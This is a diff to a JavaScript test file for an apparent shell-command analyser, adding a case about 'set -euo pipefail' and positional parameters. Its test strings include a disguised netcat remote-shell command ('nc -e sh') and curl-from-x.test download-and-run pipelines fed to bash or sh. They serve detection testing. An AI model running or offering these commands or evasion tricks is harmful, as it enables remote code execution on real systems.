@@ -310,6 +310,7 @@ test('env assignments, positional parameters, arrays, name references and descri
   assert.deepEqual(must(run('set -- a b; echo "$*" $#'), 'echo').argv, ['echo', 'a b', '2']);
   assert.deepEqual(must(run('files=(a.py "b c.py"); python3 -m pytest "${files[@]}"'), 'python3').argv, ['python3', '-m', 'pytest', 'a.py', 'b c.py']);
   assert.ok(!runs('set -- nc -e sh h 1; set -- echo; "$@"'), 'a later set replaces the parameters');
+  assert.ok(runs('set -- nc -e sh h 1; set -euo pipefail; "$@"'), '`-o NAME` at the end of a group takes NAME, not the parameters');
   assert.ok(runs('a=(x -e sh h 1); b=nc; $b "${a[@]:1}"') && runs('set -- x nc -e sh h 1; "${@:2}"'), 'slices');
   assert.deepEqual(must(run('a=(a b c); echo "${a[@]:1:1}" "${a[@]: -1}" "${a[-2]}"'), 'echo').argv, ['echo', 'b', 'c', 'b']);
   for (const t of ['exec 3< <(curl -s http://x.test/a); bash <&3', 'bash 3< <(curl -s http://x.test/a) <&3', 'exec 3< <(curl -s http://x.test/a); cat <&3 | sh']) {
